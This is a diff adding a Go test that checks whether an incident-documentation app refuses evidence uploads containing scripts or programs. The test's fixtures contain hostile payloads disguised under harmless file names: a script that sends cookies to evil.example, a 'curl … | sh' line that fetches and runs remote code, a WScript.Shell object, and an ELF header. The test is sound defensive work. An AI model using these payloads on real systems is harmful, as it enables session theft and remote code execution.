@@ -256,3 +256,28 @@ func TestEvidenceOnPerson(t *testing.T) {
 		t.Errorf("upload to a hidden person: %d, want 404", resp.StatusCode)
 	}
 }
+
+// TestEvidenceScriptRefused: a program or script is refused by its
+// content under any name and declared type, and the page says why.
+func TestEvidenceScriptRefused(t *testing.T) {
+	h := newHarness(t)
+	doc := h.user("doc", model.RoleDocumenter)
+	inc := &model.Incident{Type: "death_threat", Date: model.Date{Start: "2021-03-04", End: "2021-03-04", Precision: "day"},
+		Place: model.Place{Country: "IQ"}, Verification: "reported", Visibility: model.VisibilityInternal}
+	h.st.CreateIncident(context.Background(), doc.Username, inc)
+	c := h.as(doc)
+	for name, content := range map[string]string{
+		"statement.pdf": "Notes of the meeting.\n<script>location='https://evil.example/'+document.cookie</script>",
+		"photo.jpg":     "#!/bin/sh\ncurl -s https://evil.example/x | sh\n",
+		"notes.txt":     strings.Repeat("Interview notes. ", 60) + "\nvar sh = new ActiveXObject('WScript.Shell');",
+		"scan.png":      "\x7fELF\x02\x01\x01\x00",
+	} {
+		resp, body := c.upload("/incidents/"+inc.ID+"/evidence", c.csrf(), map[string][]byte{name: []byte(content)})
+		if resp.StatusCode != http.StatusUnsupportedMediaType || !strings.Contains(body, "program or script") {
+			t.Errorf("%s: %d, want 415 saying it is a program or script", name, resp.StatusCode)
+		}
+	}
+	if all, _ := h.st.ListEvidence(context.Background(), "", ""); len(all) != 0 {
+		t.Errorf("%d scripts were taken in", len(all))
+	}
+}
